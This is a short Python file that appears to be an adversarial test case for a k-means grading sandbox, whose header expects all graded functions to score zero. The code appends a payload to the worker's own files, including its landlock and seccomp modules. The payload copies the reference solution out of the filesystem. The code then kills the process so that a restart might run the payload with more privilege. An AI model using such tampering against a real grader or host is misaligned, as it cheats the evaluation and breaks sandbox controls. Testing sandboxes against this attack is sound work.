# golden: overwrites the worker's own files with code that copies the reference, then dies, hoping a restart runs them with more privilege
# standalone
# expect: find_closest_centroids=0 compute_centroid_means=0 kmeans_init_centroids=0 compress_image=0
# never: /tmp/kmeans-golden-rewrite-ran
import os
import sys

PAYLOAD = (
    "import glob, os, shutil\n"
    "open('/tmp/kmeans-golden-rewrite-ran', 'w').write(str(os.getuid()))\n"
    "for found in glob.glob('/**/solutions/kmeans.py', recursive=True):\n"
    "    shutil.copy(found, os.environ.get('KMEANS_TARGET', '/tmp/stolen.py'))\n"
)
here = os.path.dirname(os.path.abspath(__file__))
for folder in {here, os.path.dirname(here), os.path.dirname(os.path.abspath(sys.argv[0]))}:
    for name in ("worker.py", "protocol.py", "limits.py", "landlock.py", "seccomp.py",
                 "kmeans.py"):
        try:
            with open(os.path.join(folder, name), "a") as handle:
                handle.write("\n" + PAYLOAD)
        except OSError:
            pass


def find_closest_centroids(X, centroids):
    os._exit(3)  # die, so that the worker is started again


compute_centroid_means = kmeans_init_centroids = compress_image = find_closest_centroids
